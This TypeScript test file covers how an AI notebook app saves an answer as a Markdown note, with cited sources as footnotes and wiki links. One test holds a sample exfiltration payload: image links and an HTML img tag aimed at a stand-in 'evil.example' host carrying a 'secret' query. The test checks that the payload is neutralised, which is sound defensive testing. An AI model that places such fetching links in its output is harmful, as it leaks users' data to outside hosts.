import type { Citation } from '@ainotebook/contract';
import { LIMITS } from '@ainotebook/contract/limits';
import { extractWikiLinks, parseMarkdown } from '@ainotebook/text/markdown';
import { describe, expect, it } from 'vitest';
import { answerNote } from './answer-note.js';

const cite = (number: number, fields: Partial<Citation> = {}): Citation => ({
  number,
  articleId: '01920000-0000-7000-8000-000000000001',
  title: '茶经',
  headingPath: [],
  revision: 1,
  start: 0,
  end: 4,
  quote: '用沸水。',
  excerpt: '用沸水。',
  url: null,
  fetchedAt: null,
  state: 'unchanged',
  ...fields,
});
const note = (content: string, ...citations: Citation[]) =>
  answerNote('岩茶怎么泡？\n多说一点', { content, citations }).content;

describe('an answer kept as a note', () => {
  it('is named after its question', () => {
    const { title } = answerNote('岩茶怎么泡？\n多说一点', { content: 'x', citations: [] });
    expect(title).toBe('岩茶怎么泡？');
    const long = answerNote('😀'.repeat(200), { content: 'x', citations: [] }).title;
    expect(long.isWellFormed()).toBe(true);
    expect([...long]).toHaveLength(80);
  });

  it('leads to what it cites by footnotes that link the notes', () => {
    const markdown = note('水要沸 [1]，茶要八克 [2][1]。', cite(1), cite(2, { title: '器具' }));
    expect(markdown).toBe(
      '水要沸 [^1]，茶要八克 [^2][^1]。\n\n[^1]: [[茶经]] · 用沸水。\n\n[^2]: [[器具]] · 用沸水。\n',
    );
    expect(extractWikiLinks(markdown).map(({ target }) => target)).toEqual(['茶经', '器具']);
    const kinds = parseMarkdown(markdown).children.map(({ type }) => type);
    expect(kinds).toEqual(['paragraph', 'footnoteDefinition', 'footnoteDefinition']);
  });

  it('takes nothing that was cited for Markdown, and links no name that a link cannot say', () => {
    const excerpt = '*不* [是](x) <b>标记</b> $1$';
    const markdown = note('甲 [1]', cite(1, { title: 'a]] | b', excerpt }));
    expect(extractWikiLinks(markdown)).toEqual([]);
    const definition = parseMarkdown(markdown).children[1];
    const said = JSON.stringify(definition);
    for (const type of ['emphasis', '"link"', 'html', 'inlineMath'])
      expect(said).not.toContain(type);
  });

  it('leads to pages of the web by their addresses', () => {
    const url = 'https://example.org/a_(b)?c=d';
    const markdown = note('甲 [1]', cite(1, { articleId: null, title: '[岩茶]', url }));
    const said = JSON.stringify(parseMarkdown(markdown).children[1]);
    expect(said).toContain(`"url":"${url}"`);
    expect(said).toContain('[岩茶]');
  });

  it('shows where what was cited is cut', () => {
    expect(note('甲 [1]', cite(1, { excerpt: '茶'.repeat(LIMITS.excerptLength) }))).toContain(
      '茶…\n',
    );
  });

  it('fetches nothing that the answer names: pictures and HTML are their words', () => {
    const spy = 'https://evil.example/?q=secret';
    const said = `好 [1]。![偷看](${spy}) ![再][p]\n\n<img src="${spy}">\n\n[p]: ${spy}`;
    const { content, written } = answerNote('？', { content: said, citations: [cite(1)] });
    const kinds = JSON.stringify(parseMarkdown(content));
    for (const type of ['image', 'imageReference', 'definition', 'html']) {
      expect(kinds).not.toContain(`"type":"${type}"`);
    }
    expect(content).toContain('好 [^1]。偷看 再');
    expect(content).toContain(written);
  });

  it('names a note that is gone without a link, and keeps an answer that cites nothing', () => {
    expect(note('甲 [1]', cite(1, { articleId: null }))).toContain('[^1]: 茶经 · ');
    expect(note('没有引用。')).toBe('没有引用。\n');
  });
});
